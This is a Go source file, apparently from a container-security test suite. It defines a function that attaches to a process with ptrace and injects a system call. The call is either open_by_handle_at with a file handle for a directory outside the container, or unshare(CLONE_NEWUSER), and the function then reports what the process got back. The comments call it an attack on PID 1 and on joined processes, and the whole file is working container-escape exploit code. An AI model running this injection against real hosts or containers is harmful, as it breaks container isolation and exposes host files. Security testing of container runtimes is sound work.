package main

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"os"
	"runtime"

	"golang.org/x/sys/unix"
)

// ptraceInject is the attack on a resident PID 1 (issue 9, hole 2) and on
// a joined process (hole 6): attach to pid, asleep in a system call, and
// make it call what (see main.go): open_by_handle_at(AT_FDCWD, handle,
// O_RDONLY|O_DIRECTORY) with a file handle of a directory outside the
// container (hex: handle_type, then the handle bytes), or
// unshare(CLONE_NEWUSER) for "unshare-user". It prints what the tracee got:
// "injected fd N TARGET" (TARGET is where the fd leads), "injected ret N",
// "injected errno NAME", or "attach errno NAME" when it cannot even attach.
func ptraceInject(pid int, what string) {
	var raw []byte
	if what != "unshare-user" {
		var err error
		if raw, err = hex.DecodeString(what); err != nil || len(raw) < 5 {
			fail("bad handle")
		}
	}
	runtime.LockOSThread() // every ptrace request from one thread
	if err := unix.PtraceSeize(pid); err != nil {
		fmt.Println("attach errno", errnoName(errnoOf(err)))
		return
	}
	defer unix.PtraceDetach(pid)
	if err := unix.PtraceInterrupt(pid); err != nil {
		fail("interrupt: " + err.Error())
	}
	stop := func() {
		var ws unix.WaitStatus
		if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil || !ws.Stopped() {
			fail(fmt.Sprintf("wait for the tracee: %v %v", ws, err))
		}
	}
	stop()
	var saved unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &saved); err != nil {
		fail("getregs: " + err.Error())
	}
	// It sleeps in a system call: the bytes before its pc are "syscall".
	insn := make([]byte, 2)
	if _, err := unix.PtracePeekText(pid, uintptr(saved.Rip-2), insn); err != nil || insn[0] != 0x0f || insn[1] != 0x05 {
		fail(fmt.Sprintf("no syscall instruction before pc: %x %v", insn, err))
	}
	regs := saved
	regs.Rip -= 2
	regs.Orig_rax = ^uint64(0) // no syscall restart on the way out
	if raw == nil {
		regs.Rax, regs.Rdi = unix.SYS_UNSHARE, unix.CLONE_NEWUSER
	} else {
		// struct file_handle {u32 handle_bytes; int handle_type; f_handle[]},
		// written well below the stack pointer (past the red zone).
		fh := make([]byte, 8, 8+len(raw))
		binary.LittleEndian.PutUint32(fh[0:], uint32(len(raw)-4))
		copy(fh[4:8], raw[:4])
		fh = append(fh, raw[4:]...)
		addr := (saved.Rsp - 4096) &^ 15
		if _, err := unix.PtracePokeData(pid, uintptr(addr), fh); err != nil {
			fail("poke: " + err.Error())
		}
		regs.Rax = unix.SYS_OPEN_BY_HANDLE_AT
		regs.Rdi = uint64(0xffffffffffffff9c) // AT_FDCWD: the tracee's cwd
		regs.Rsi = addr
		regs.Rdx = unix.O_RDONLY | unix.O_DIRECTORY
	}
	if err := unix.PtraceSetRegs(pid, &regs); err != nil {
		fail("setregs: " + err.Error())
	}
	for range 2 { // to the syscall's entry, then to its exit
		if err := unix.PtraceSyscall(pid, 0); err != nil {
			fail("syscall: " + err.Error())
		}
		stop()
	}
	var after unix.PtraceRegs
	unix.PtraceGetRegs(pid, &after)
	unix.PtraceSetRegs(pid, &saved) // its system call sees an error
	if ret := int64(after.Rax); ret < 0 {
		fmt.Println("injected errno", errnoName(unix.Errno(-ret)))
		return
	}
	if raw == nil {
		fmt.Println("injected ret", after.Rax)
		return
	}
	target, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/%d", pid, after.Rax))
	fmt.Println("injected fd", after.Rax, target)
}
